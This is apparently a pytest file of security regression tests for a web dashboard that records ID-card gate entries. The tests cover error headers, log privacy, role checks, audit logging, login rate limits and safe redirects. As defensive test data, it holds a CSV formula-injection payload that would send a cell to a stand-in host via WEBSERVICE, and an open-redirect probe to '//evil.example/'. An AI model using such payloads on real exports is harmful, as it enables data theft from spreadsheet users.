"""The dashboard's second security review: each test pins down one hole that was found and
closed (errors without headers or with personal data in the log, inputs that crashed a page,
person lookups by viewers, audit rows that did not say whom, the login limit's bypasses, the
language switch by GET, retention and the tracing CSV)."""

from __future__ import annotations

import csv
import io
import logging
import threading
from datetime import timedelta
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy.exc import DBAPIError

from server.accounts.passwords import PasswordHasher
from server.accounts.users import Accounts, Role
from server.dashboard.app import create_web_app
from server.dashboard.i18n.translate import LANGUAGE_COOKIE
from server.dashboard.ratelimit import LoginRateLimiter
from server.dashboard.settings import WebSettings
from server.store.audit import AuditLog
from server.store.database import Store
from server.store.retention import purge_entries
from tests.support.web import (
    FAST_HASHER,
    PASSWORD,
    START,
    MovableClock,
    bearer,
    cccd_event,
    log_in,
    login_form_token,
    raw_event,
)

ALICE, BOB = "079190000001", "079190000002"
MIN = timedelta(minutes=1)
DAY = timedelta(days=1)


@pytest.fixture
def stocked(store: Store) -> Store:
    """Alice at gate-1, Bob five minutes earlier at the same gate."""
    store.add_events(
        [
            cccd_event(1, subject=ALICE, name="Nguyễn Văn An", ts=START),
            cccd_event(2, subject=BOB, name="Trần Thị Bình", ts=START - 5 * MIN),
        ],
        received_at=START,
    )
    return store


# --- errors ------------------------------------------------------------------------------------


def test_an_unhandled_error_has_the_security_headers_and_logs_no_personal_data(
    client: TestClient, store: Store, caplog: pytest.LogCaptureFixture
) -> None:
    log_in(client, "manager")
    with store.engine.begin() as conn:  # a broken database: every query on entries fails
        conn.exec_driver_sql("ALTER TABLE entries RENAME TO entries_lost")
    with pytest.raises(DBAPIError) as broken, store.engine.connect() as conn:
        conn.exec_driver_sql("SELECT count(*) FROM entries")
    failure = type(broken.value).__qualname__  # SQLite's OperationalError, PostgreSQL's...
    with caplog.at_level(logging.ERROR):
        page = client.get(f"/entries?person={ALICE}", follow_redirects=True)  # on to ?q=
        api = client.get(f"/api/v1/entries?person={ALICE}")
    for answer in (page, api):
        assert answer.status_code == 500
        assert "script-src 'self'" in answer.headers["content-security-policy"]
        assert answer.headers["cache-control"] == "no-store"
        assert ALICE not in answer.text
    assert f"unhandled {failure}" in caplog.text  # what failed, and where...
    assert "GET /entries" in caplog.text
    assert ALICE not in caplog.text  # ...but not the query's parameters


def test_inputs_out_of_range_are_refused_or_ignored_never_a_server_error(
    client: TestClient, stocked: Store
) -> None:
    csrf = log_in(client, "manager")
    huge = 10**20
    answers = {
        f"/entries?page={huge}": 200,
        f"/api/v1/entries?page={huge}": 200,
        f"/tracing?subject={ALICE}&window=²": 200,  # "²".isdigit(), but int("²") fails
        "/entries?since=0001-01-01T00:00": 200,  # year 1 at +07:00 is before year 1 in UTC
        f"/tracing?subject={ALICE}&since=0001-01-01T00:00": 200,
        "/export?until=0001-01-01T00:00": 200,
        "/api/v1/entries?since=0001-01-01T00:00:00%2B14:00": 422,
        f"/api/v1/people/{ALICE}/trace?until=9999-12-31T23:59:00-12:00": 422,
    }
    for url, status in answers.items():  # an old bookmark's ?subject= goes on to its ?q=
        assert client.get(url, follow_redirects=True).status_code == status, url
    unmask = client.post("/entries/unmask", data={"csrf_token": csrf, "page": "²"})
    assert unmask.status_code == 200


# --- person lookups ----------------------------------------------------------------------------


def test_a_viewer_cannot_look_a_person_up_anywhere(
    app: FastAPI, client: TestClient, stocked: Store
) -> None:
    token = bearer(app, Role.VIEWER)
    for url in (f"/api/v1/entries?person={ALICE}", f"/api/v1/entries/export?person={ALICE}"):
        assert client.get(url, headers=token).status_code == 403, url
    log_in(client, "viewer")
    for url in (f"/entries?person={ALICE}", "/entries?person=Nguy", f"/export?person={ALICE}"):
        assert client.get(url).status_code == 403, url
    assert 'name="person"' not in client.get("/entries").text  # no field to fill in
    assert app.state.web.audit.rows(action="search") == []


def test_a_manager_s_person_filter_stays_and_the_export_page_s_count_is_audited(
    app: FastAPI, client: TestClient, stocked: Store
) -> None:
    log_in(client, "manager")
    assert 'name="person"' in client.get("/entries").text
    page = client.get(f"/export?person={ALICE}", follow_redirects=True)  # on to its ?q=
    assert page.status_code == 200
    (row,) = app.state.web.audit.rows(action="search")
    assert (row.actor, row.subject) == ("manager", ALICE)


# --- audit rows say whom -----------------------------------------------------------------------


def test_an_unmasking_s_audit_row_names_everyone_it_showed(
    app: FastAPI, client: TestClient, stocked: Store
) -> None:
    csrf = log_in(client, "manager")
    assert client.post("/entries/unmask", data={"csrf_token": csrf}).status_code == 200
    client.get("/api/v1/entries?unmask=true&page_size=1")
    api_row, page_row = app.state.web.audit.rows(action="unmask")
    assert page_row.subject == ""  # no person asked for...
    assert page_row.details["subjects"] == [ALICE, BOB]  # ...but these two were shown
    assert api_row.details["subjects"] == [ALICE]  # the newest entry only


def test_a_tracing_audit_row_names_the_contacts_and_a_download_is_an_export(
    app: FastAPI, client: TestClient, stocked: Store
) -> None:
    headers = bearer(app, Role.MANAGER)
    url = f"/api/v1/people/{ALICE}/trace/export?format=csv&window_min=10"
    assert client.get(url, headers=headers).status_code == 200
    (trace,) = app.state.web.audit.rows(action="trace")
    assert trace.details["contacts"] == [BOB]
    (export,) = app.state.web.audit.rows(action="export")
    assert (export.actor, export.subject) == ("token:script-manager", ALICE)
    assert export.details == {"kind": "tracing", "format": "csv", "window_min": 10}


def test_login_and_logout_are_both_audited(app: FastAPI, client: TestClient) -> None:
    csrf = log_in(client, "viewer")
    client.post("/logout", data={"csrf_token": csrf})
    actions = [(row.actor, row.action) for row in app.state.web.audit.rows()]
    assert actions == [("viewer", "logout"), ("viewer", "login")]


# --- the tracing CSV ---------------------------------------------------------------------------


def test_the_tracing_csv_keeps_a_contact_before_the_visit_a_number(
    app: FastAPI, client: TestClient, stocked: Store
) -> None:
    url = f"/api/v1/people/{ALICE}/trace/export?format=csv&window_min=10"
    body = client.get(url, headers=bearer(app, Role.MANAGER)).content.decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(body))
    assert (row["contact_subject_id"], row["offset_min"], row["overlap_min"]) == (
        BOB,
        "-5.0",  # not "'-5.0": a number cannot start a formula
        "15.0",
    )


def test_a_formula_after_a_semicolon_is_defused_too(app: FastAPI, client: TestClient) -> None:
    # Vietnamese Excel lists with ";", and so splits a comma-separated file at ";".
    store: Store = app.state.web.store
    store.add_events([raw_event(1, 'pass 7;=WEBSERVICE("http://x.invalid/"&B2)')], START)
    url = "/api/v1/entries/export?format=csv&unmask=true"
    body = client.get(url, headers=bearer(app, Role.MANAGER)).content.decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(body))
    assert row["code_text"] == 'pass 7;\'=WEBSERVICE("http://x.invalid/"&B2)'


# --- the login limit ---------------------------------------------------------------------------


def _try(client: TestClient, name: str, password: str) -> int:
    client.cookies.clear()
    form = {"username": name, "password": password, "csrf_token": login_form_token(client)}
    return client.post("/login", data=form).status_code


def test_the_login_limit_counts_a_name_however_it_is_written(client: TestClient) -> None:
    for _ in range(3):  # the limit in these tests
        assert _try(client, "manager", "wrong password") == 401
    for variant in (" manager", "MANAGER", "ｍａｎａｇｅｒ", "manager\t"):
        assert _try(client, variant, "wrong password") == 429, repr(variant)


def test_attempts_still_being_checked_count_against_the_limit() -> None:
    limiter = LoginRateLimiter(per_user=3, per_ip=100, window_s=60, clock=lambda: 0.0)
    assert [limiter.begin("manager", "192.0.2.1") for _ in range(3)] == [0, 0, 0]
    assert limiter.begin("manager", "192.0.2.2") == 60  # the 4th, before any answer is known
    limiter.succeeded("manager", "192.0.2.1")
    assert limiter.begin("manager", "192.0.2.1") == 0


def test_logins_sent_at_once_get_no_more_tries_than_the_limit(
    store: Store, settings: WebSettings, clock: MovableClock
) -> None:
    # A slower hash (16 MiB) keeps the attempts in flight together, as they are in production.
    hasher = PasswordHasher(n=2**14, p=1)
    Accounts(store.engine, hasher=hasher, clock=clock).add_user("manager", Role.MANAGER, PASSWORD)
    app = create_web_app(store, settings, clock=clock, monotonic=clock.monotonic, hasher=hasher)
    answers: list[int] = []
    start = threading.Barrier(12)

    def attempt() -> None:
        with TestClient(app, follow_redirects=False) as browser:
            csrf = login_form_token(browser)
            start.wait()
            form = {"username": "manager", "password": "wrong password", "csrf_token": csrf}
            answers.append(browser.post("/login", data=form).status_code)

    threads = [threading.Thread(target=attempt) for _ in range(12)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert sorted(answers) == [401] * 3 + [429] * 9


def test_good_logins_from_one_address_do_not_use_up_its_limit(client: TestClient) -> None:
    for _ in range(12):  # 10 failures per address in these tests
        assert _try(client, "viewer", PASSWORD) == 303


def test_the_production_scrypt_cost_meets_owasp() -> None:
    # OWASP password storage cheat sheet: N=2^17 p=1, or the same cost as N=2^16 p=2,
    # N=2^15 p=3, N=2^14 p=5, N=2^13 p=10; r=8 each.
    least_p = {2**17: 1, 2**16: 2, 2**15: 3, 2**14: 5, 2**13: 10}
    hasher = PasswordHasher()
    assert hasher.r >= 8
    assert hasher.p >= least_p[hasher.n]
    assert hasher.hash("a long passphrase").startswith(f"scrypt${hasher.n}$8${hasher.p}$")


# --- sessions and cookies ----------------------------------------------------------------------


def test_sessions_that_ended_by_idling_are_deleted_at_the_next_login(
    app: FastAPI, client: TestClient, clock: MovableClock
) -> None:
    log_in(client, "viewer")
    clock.advance(601)  # idle limit in these tests: 600 s
    client.cookies.clear()
    log_in(client, "manager")
    with app.state.web.store.engine.connect() as conn:
        users = [row[0] for row in conn.exec_driver_sql("SELECT user_name FROM web_sessions")]
    assert users == ["manager"]


def test_the_login_page_language_switch_is_a_post_with_the_form_token(
    client: TestClient,
) -> None:
    assert client.get("/language/en?next=/login").status_code in (404, 405)  # no GET changes
    assert client.post("/language", data={"lang": "en"}).status_code == 403
    csrf = login_form_token(client)
    answer = client.post("/language", data={"lang": "en", "csrf_token": csrf, "next": "/login"})
    assert (answer.status_code, answer.headers["location"]) == (303, "/login")
    assert client.cookies.get(LANGUAGE_COOKIE) == "en"
    assert 'lang="en">English</button>' not in client.get("/login").text  # now the current one


def test_the_language_cookie_is_secure_when_the_site_s_cookies_are(
    store: Store, clock: MovableClock
) -> None:
    settings = WebSettings(secure_cookies=True)
    app = create_web_app(store, settings, clock=clock, hasher=FAST_HASHER)
    with TestClient(app, base_url="https://testserver", follow_redirects=False) as browser:
        csrf = login_form_token(browser)
        answer = browser.post("/language", data={"lang": "en", "csrf_token": csrf})
    cookie = answer.headers["set-cookie"]
    assert cookie.startswith(f"{LANGUAGE_COOKIE}=en") and "Secure" in cookie


# --- retention ---------------------------------------------------------------------------------


def test_retention_goes_by_arrival_when_the_gate_s_clock_was_not_synced(store: Store) -> None:
    unsynced_1970 = cccd_event(1, subject=ALICE, ts=START.replace(year=1970))
    unsynced_1970 = unsynced_1970.model_copy(update={"clock_synced": False})
    late_but_old = cccd_event(2, subject=BOB, ts=START - 40 * DAY)  # synced, uploaded late
    store.add_events([unsynced_1970, late_but_old], received_at=START)
    first = purge_entries(store, 30, now=START)
    assert [e.subject_id for e in store.entries()] == [ALICE]  # arrived today: kept
    assert first.deleted == 1
    second = purge_entries(store, 30, now=START + 31 * DAY)  # a month after it arrived
    assert second.deleted == 1
    assert store.count_entries() == 0
    assert len(AuditLog(store.engine).rows(action="purge")) == 2


def log_in_to(client: TestClient, next_target: str, password: str = PASSWORD) -> Any:
    token = login_form_token(client)
    form = {"username": "manager", "password": password, "csrf_token": token, "next": next_target}
    return client.post("/login", data=form)


@pytest.mark.parametrize(
    ("asked", "led_to"),
    [
        ("/entries?page=2", "/entries?page=2"),
        ("/tracing", "/tracing"),
        ("/export/download?format=csv&unmask=true", "/"),  # an unmasked export, never by a link
        ("/tracing/export?q=x&format=csv", "/"),
        ("/api/v1/entries/export?format=csv&unmask=true", "/"),
        ("/live/entries", "/"),
        ("//evil.example/", "/"),
    ],
)
def test_a_login_leads_only_to_a_page_never_to_a_download(
    client: TestClient, asked: str, led_to: str
) -> None:
    answer = log_in_to(client, asked)
    assert (answer.status_code, answer.headers["location"]) == (303, led_to)


def test_failed_logins_are_audited_without_what_was_typed(app: FastAPI, client: TestClient) -> None:
    for _ in range(2):
        assert log_in_to(client, "/", password="not the password").status_code == 401
    token = login_form_token(client)
    typed = {"username": "hunter2-typed-here", "password": "x", "csrf_token": token}
    assert client.post("/login", data=typed).status_code == 401
    rows = app.state.web.audit.rows(action="login_failed")
    known = [row.actor for row in rows if not row.actor.startswith("unknown user #")]
    unknown = [row.actor for row in rows if row.actor.startswith("unknown user #")]
    assert known == ["user 'manager'", "user 'manager'"]
    assert len(unknown) == 1 and "hunter2" not in unknown[0]
    assert {row.details["why"] for row in rows} == {"wrong_password"}
    assert all(row.details["client"] for row in rows)


def test_a_rate_limited_login_is_audited_too(
    app: FastAPI, client: TestClient, settings: WebSettings
) -> None:
    for _ in range(settings.login_failures_per_user):
        log_in_to(client, "/", password="wrong")
    assert log_in_to(client, "/").status_code == 429
    whys = [row.details["why"] for row in app.state.web.audit.rows(action="login_failed")]
    assert whys.count("rate_limited") == 1
